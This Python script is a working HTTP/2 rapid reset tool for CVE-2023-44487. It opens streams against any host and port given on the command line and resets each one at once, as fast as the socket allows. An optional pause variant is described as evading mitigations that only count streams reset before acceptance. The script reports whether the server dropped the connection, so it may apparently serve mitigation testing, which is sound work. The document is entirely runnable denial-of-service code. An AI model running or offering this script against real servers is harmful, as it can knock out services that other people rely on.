#!/usr/bin/env python3
"""HTTP/2 rapid reset (CVE-2023-44487) against a cleartext HTTP/2 listener, with the python-hyper
`h2` library: opens streams and resets each at once, as fast as the socket takes them.

  rapid_reset.py HOST PORT STREAMS [PAUSE_MS]

PAUSE_MS (default 0) waits between opening a stream and resetting it, so the server has accepted
the stream (and started on it) before the reset: the variant that limits on streams reset before
they are accepted do not see.

Prints one JSON line: {"sent": streams sent before the server closed the connection,
"closed": the server closed it (EOF, reset or GOAWAY), "goaway": a GOAWAY came, "seconds": ...}.
"""

import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events


def absorb(conn, data):
    """Feeds what the server sent to the h2 state machine: (closed, goaway)."""
    if not data:
        return True, False
    for ev in conn.receive_data(data):
        if isinstance(ev, h2.events.ConnectionTerminated):
            return True, True
    return False, False


def main():
    host, port, total = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    pause = float(sys.argv[4]) / 1000 if len(sys.argv) > 4 else 0.0
    s = socket.create_connection((host, port), timeout=10)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    s.sendall(conn.data_to_send())
    headers = [(":method", "GET"), (":path", "/"), (":scheme", "http"), (":authority", host)]
    sent, closed, goaway = 0, False, False
    start = time.monotonic()
    s.setblocking(False)
    try:
        for _ in range(total):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, headers, end_stream=True)
            if pause:
                s.setblocking(True)
                s.sendall(conn.data_to_send())
                s.setblocking(False)
                time.sleep(pause)
            conn.reset_stream(sid)
            try:
                s.sendall(conn.data_to_send())
            except BlockingIOError:
                s.setblocking(True)
                s.sendall(conn.data_to_send())
                s.setblocking(False)
            sent += 1
            try:
                closed, goaway = absorb(conn, s.recv(65536))
                if closed:
                    break
            except BlockingIOError:
                pass
    except (BrokenPipeError, ConnectionResetError, h2.exceptions.ProtocolError):
        closed = True
    if not closed:
        # The server may still be reading what was sent: wait (bounded) for its verdict.
        s.setblocking(True)
        s.settimeout(3)
        try:
            while not closed:
                closed, goaway = absorb(conn, s.recv(65536))
        except (socket.timeout, ConnectionResetError, h2.exceptions.ProtocolError) as e:
            closed = closed or not isinstance(e, socket.timeout)
    print(json.dumps({"sent": sent, "closed": closed, "goaway": goaway,
                      "seconds": round(time.monotonic() - start, 3)}))


if __name__ == "__main__":
    main()
